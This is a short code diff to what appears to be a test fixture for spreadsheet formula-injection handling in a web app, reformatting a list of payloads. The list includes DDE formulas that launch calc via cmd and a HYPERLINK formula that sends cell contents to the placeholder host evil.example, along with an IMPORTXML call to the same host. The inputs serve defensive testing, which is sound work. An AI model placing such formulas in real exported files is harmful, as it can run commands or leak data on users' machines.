@@ -23,7 +23,8 @@ from readout.web.access import Access, User
 STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\ufeff=", "＝", "＋", "－", "＠")
 FORMULAS = (
     *(f"{start}cmd|' /C calc'!A1" for start in STARTS),
-    '=HYPERLINK("https://evil.example/?x="&A1,"more")', "=1+1", "-2+3", "@SUM(1)", "+1", '=IMPORTXML("https://evil.example","//a")', "DDE;x", "=",
+    '=HYPERLINK("https://evil.example/?x="&A1,"more")', "=1+1", "-2+3", "@SUM(1)", "+1", '=IMPORTXML("https://evil.example","//a")',
+    "DDE;x", "=",
 )  # fmt: skip
 #: Begins as what a spreadsheet works out, whatever blank or mark stands before.
 RISKY = "=+-@＝＋－＠"
